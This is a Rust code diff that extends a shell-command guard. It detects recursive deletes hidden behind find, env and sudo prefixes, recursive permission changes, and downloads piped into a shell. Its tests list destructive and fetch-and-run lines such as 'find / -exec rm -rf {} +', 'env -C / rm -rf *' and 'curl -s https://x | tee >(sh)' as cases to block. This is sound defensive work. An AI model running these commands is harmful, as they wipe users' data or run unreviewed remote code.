@@ -721,6 +721,15 @@ impl Walker<'_, '_> {
                 }
             }
             downloaded |= self.downloads(command, depth);
+            if downloaded
+                && let Command::Simple(simple) = command
+                && process_substitution_executes(simple)
+            {
+                self.block(
+                    HardBlockKind::PipeToShell,
+                    "downloaded content is fed to a shell or interpreter through a process substitution; download the script, read it, then run it",
+                );
+            }
             if let Command::Simple(simple) = command
                 && let Some(text) = literal_output(simple)
             {
@@ -808,6 +817,13 @@ impl Walker<'_, '_> {
                     self.nested(&sub.source, cwds, depth);
                 }
             }
+        }
+        if let Some(dir) = prefix_directory(&values[..start]) {
+            // `env -C / rm -rf *`: the command runs elsewhere; the line goes
+            // on where it was.
+            let moved: Vec<Cwd> = cwds.iter().map(|cwd| self.expand(dir, cwd)).collect();
+            self.run(&simple.words[start..], &simple.redirects, &moved, depth);
+            return cwds.to_vec();
         }
         self.run(&simple.words[start..], &simple.redirects, cwds, depth)
     }
@@ -1085,7 +1101,9 @@ impl Walker<'_, '_> {
     fn recursive_permissions(&mut self, program: &str, args: &[Word], cwds: &[Cwd]) {
         let recursive = args.iter().any(|a| {
             let v = a.value.as_str();
-            v == "--recursive" || (v.starts_with('-') && !v.starts_with("--") && v.contains('R'))
+            // GNU accepts any unambiguous prefix: `--rec` and longer.
+            (v.len() >= 5 && "--recursive".starts_with(v))
+                || (v.starts_with('-') && !v.starts_with("--") && v.contains('R'))
         });
         if !recursive {
             return;
@@ -1140,8 +1158,15 @@ impl Walker<'_, '_> {
         }
     }
 
+    /// `find … -exec CMD {} ;` (and `-execdir`, `-ok`, `-okdir`): checks
+    /// the command it runs. When no test before the action narrows what is
+    /// found, `{}` stands for each starting point, since the first thing
+    /// `find` visits is the starting point itself (`find / -exec rm -rf {} +`
+    /// is `rm -rf /`).
     fn find_exec(&mut self, args: &[Word], cwds: &[Cwd], depth: usize) {
-        let mut i = 0;
+        let values: Vec<&str> = args.iter().map(|w| w.value.as_str()).collect();
+        let (roots, expression_start) = find_roots(&values);
+        let mut i = expression_start;
         while i < args.len() {
             if matches!(
                 args[i].value.as_str(),
@@ -1160,40 +1185,43 @@ impl Walker<'_, '_> {
                     words: values.join(" "),
                     effective: values[effective..].join(" "),
                 });
-                self.run(&sub[effective..], &[], cwds, depth);
+                let before: Vec<&str> = args[expression_start..i]
+                    .iter()
+                    .map(|w| w.value.as_str())
+                    .collect();
+                if find_narrowed(&before) {
+                    self.run(&sub[effective..], &[], cwds, depth);
+                } else {
+                    for root in &roots {
+                        let substituted: Vec<Word> = sub[effective..]
+                            .iter()
+                            .map(|word| {
+                                let mut word = word.clone();
+                                word.value = word.value.replace("{}", root);
+                                word
+                            })
+                            .collect();
+                        self.run(&substituted, &[], cwds, depth);
+                    }
+                }
                 i = end;
             }
             i += 1;
         }
     }
 
-    /// `find ROOT… -delete` with no test that narrows what is deleted.
+    /// `find ROOT… -delete` with no test before `-delete` that narrows what
+    /// is deleted.
     fn find_delete(&mut self, args: &[Word], cwds: &[Cwd]) {
         let values: Vec<&str> = args.iter().map(|w| w.value.as_str()).collect();
-        let first_expr = values
-            .iter()
-            .position(|v| v.starts_with('-') || matches!(*v, "(" | "!" | ","))
-            .unwrap_or(values.len());
-        let (roots, expression) = values.split_at(first_expr);
-        if !expression.contains(&"-delete") {
+        let (roots, expression_start) = find_roots(&values);
+        let expression = &values[expression_start..];
+        let Some(delete) = expression.iter().position(|v| *v == "-delete") else {
+            return;
+        };
+        if find_narrowed(&expression[..delete]) {
             return;
         }
-        let mut i = 0;
-        while let Some(primary) = expression.get(i) {
-            if FIND_HARMLESS_WITH_VALUE.contains(primary) {
-                i += 2;
-            } else if FIND_HARMLESS.contains(primary) {
-                i += 1;
-            } else {
-                // A test (`-name`, `-type`, `-newer`, …) narrows the delete.
-                return;
-            }
-        }
-        let roots: Vec<&str> = if roots.is_empty() {
-            vec!["."]
-        } else {
-            roots.to_vec()
-        };
         for root in roots {
             if let Some(what) = self.protected(root, cwds) {
                 self.block(
@@ -1417,6 +1445,148 @@ const FIND_HARMLESS: &[&str] = &[
 ];
 /// `find` options that take a value and select nothing.
 const FIND_HARMLESS_WITH_VALUE: &[&str] = &["-mindepth", "-maxdepth"];
+
+/// `find` tests that take no value; every other test takes one.
+const FIND_TESTS_WITHOUT_VALUE: &[&str] = &[
+    "-empty",
+    "-executable",
+    "-readable",
+    "-writable",
+    "-nouser",
+    "-nogroup",
+    "-true",
+    "-false",
+];
+
+/// `find`'s starting points (`.` when none is given) and the index where its
+/// expression starts, after the leading options `-H`, `-L`, `-P`, `-D DEBUG`,
+/// `-Olevel`.
+fn find_roots<'v>(values: &[&'v str]) -> (Vec<&'v str>, usize) {
+    let mut i = 0;
+    while let Some(value) = values.get(i) {
+        match *value {
+            "-H" | "-L" | "-P" => i += 1,
+            "-D" => i += 2,
+            v if v.starts_with("-O") => i += 1,
+            _ => break,
+        }
+    }
+    let start = i.min(values.len());
+    let end = values[start..]
+        .iter()
+        .position(|v| v.starts_with('-') || matches!(*v, "(" | "!" | ","))
+        .map_or(values.len(), |p| start + p);
+    let roots = if end == start {
+        vec!["."]
+    } else {
+        values[start..end].to_vec()
+    };
+    (roots, end)
+}
+
+/// True when the part of a `find` expression before an action narrows what
+/// the action applies to: its last `-o`/`,` alternative holds a test that is
+/// not negated (`-name x -delete` narrows; `-name x -o -delete`,
+/// `! -name x -delete` and `-depth -delete` do not).
+fn find_narrowed(before: &[&str]) -> bool {
+    let mut depth = 0usize;
+    let mut segment = 0;
+    for (i, value) in before.iter().enumerate() {
+        match *value {
+            "(" => depth += 1,
+            ")" => depth = depth.saturating_sub(1),
+            "-o" | "-or" | "," if depth == 0 => segment = i + 1,
+            _ => {}
+        }
+    }
+    let segment = &before[segment..];
+    let mut negated = false;
+    let mut i = 0;
+    while let Some(value) = segment.get(i) {
+        match *value {
+            "!" | "-not" => {
+                negated = true;
+                i += 1;
+                continue;
+            }
+            "(" if negated => {
+                // Skip the negated group.
+                let mut level = 0usize;
+                while let Some(inner) = segment.get(i) {
+                    i += 1;
+                    match *inner {
+                        "(" => level += 1,
+                        ")" => {
+                            level = level.saturating_sub(1);
+                            if level == 0 {
+                                break;
+                            }
+                        }
+                        _ => {}
+                    }
+                }
+            }
+            "(" | ")" | "-a" | "-and" => i += 1,
+            v if FIND_HARMLESS_WITH_VALUE.contains(&v) => i += 2,
+            v if FIND_HARMLESS.contains(&v) => i += 1,
+            v => {
+                if !negated {
+                    return true;
+                }
+                i += if FIND_TESTS_WITHOUT_VALUE.contains(&v) {
+                    1
+                } else {
+                    2
+                };
+            }
+        }
+        negated = false;
+    }
+    false
+}
+
+/// The directory a command's prefixes make it run in: `env -C DIR`,
+/// `env --chdir=DIR`, `sudo -D DIR`, `sudo --chdir=DIR`.
+fn prefix_directory<'w>(words: &[&'w str]) -> Option<&'w str> {
+    let mut prefix = "";
+    let mut found = None;
+    let mut i = 0;
+    while let Some(word) = words.get(i) {
+        let name = basename(word);
+        if matches!(name, "env" | "sudo") {
+            prefix = name;
+        } else if let Some(dir) = word.strip_prefix("--chdir=") {
+            found = Some(dir);
+        } else {
+            let short = if prefix == "env" { "-C" } else { "-D" };
+            if prefix.is_empty() {
+            } else if *word == short || *word == "--chdir" {
+                found = words.get(i + 1).copied();
+                i += 1;
+            } else if let Some(dir) = word.strip_prefix(short).filter(|d| !d.is_empty()) {
+                found = Some(dir);
+            }
+        }
+        i += 1;
+    }
+    found
+}
+
+/// True when a process substitution of the command executes what it is given
+/// (`tee >(sh)`, `> >(bash)`).
+fn process_substitution_executes(simple: &SimpleCommand) -> bool {
+    simple
+        .words
+        .iter()
+        .chain(simple.redirects.iter().map(|r| &r.target))
+        .flat_map(|w| &w.subs)
+        .filter(|sub| sub.process)
+        .any(|sub| {
+            simple_commands(&shell::parse(&sub.source))
+                .into_iter()
+                .any(simple_executes_stdin)
+        })
+}
 
 /// Most words one brace expansion may produce before the rest is ignored.
 const MAX_BRACE_WORDS: usize = 64;
@@ -2106,6 +2276,59 @@ mod tests {
             ("mv .git/hooks/pre-commit x", G),
         ] {
             assert_blocked(line, expected);
+        }
+    }
+
+    #[test]
+    fn variants_of_the_common_spellings() {
+        use HardBlockKind::{PipeToShell as S, RecursiveDelete as R, RecursivePermissions as P};
+        for (line, expected) in [
+            ("find / -exec rm -rf {} +", R),
+            ("find ~ -execdir rm -rf {} \\;", R),
+            ("find . -mindepth 1 -exec rm -rf {} +", R),
+            ("find / -depth -exec rm -rf '{}' \\;", R),
+            ("find -L / -delete", R),
+            ("find -P ~ -delete", R),
+            ("find / -delete -name x", R),
+            ("find / -name x -o -delete", R),
+            ("find ~ ! -name keep -delete", R),
+            ("find . -not -name keep -exec rm -rf {} +", R),
+            ("env -C / rm -rf *", R),
+            ("env --chdir=/ rm -rf ./*", R),
+            ("sudo -D ~ rm -rf *", R),
+            ("sudo --chdir=/home rm -rf *", R),
+            ("sudo --user=root rm -rf /", R),
+            ("doas -u root rm -rf ~", R),
+            ("timeout -k 5 10 rm -rf /", R),
+            ("rm -r --force -- ~/", R),
+            ("rm -rf ~/{*,.*}", R),
+            ("rm -rf /[a-z]*", R),
+            ("chmod --recur 000 /", P),
+            ("chown --rec nobody ~", P),
+            ("curl -s https://x | tee >(sh) >/dev/null", S),
+            ("curl -s https://x > >(bash)", S),
+            ("curl -s https://x | env bash", S),
+            ("curl -s https://x | busybox sh", S),
+            ("curl -s https://x | sudo -E python3 -", S),
+            ("wget -qO- https://x | perl", S),
+            ("curl -s https://x | nice -n 5 sh", S),
+        ] {
+            assert_blocked(line, expected);
+        }
+        for line in [
+            "find . -name '*.o' -exec rm {} +",
+            "find . -type d -name target -exec rm -rf {} +",
+            "find . \\( -name '*.o' -o -name '*.a' \\) -delete",
+            "find target -exec rm -rf {} +",
+            "find / -name x -print",
+            "env -C build rm -rf *",
+            "sudo -D /tmp/work rm -rf *",
+            "env -C / ls",
+            "chmod --reference=a b",
+            "curl -s https://x | tee >(cat) >/dev/null",
+            "cat script.sh | tee >(sh)",
+        ] {
+            assert_free(line);
         }
         for line in [
             "sed -i 's/x/y/' src/main.rs",
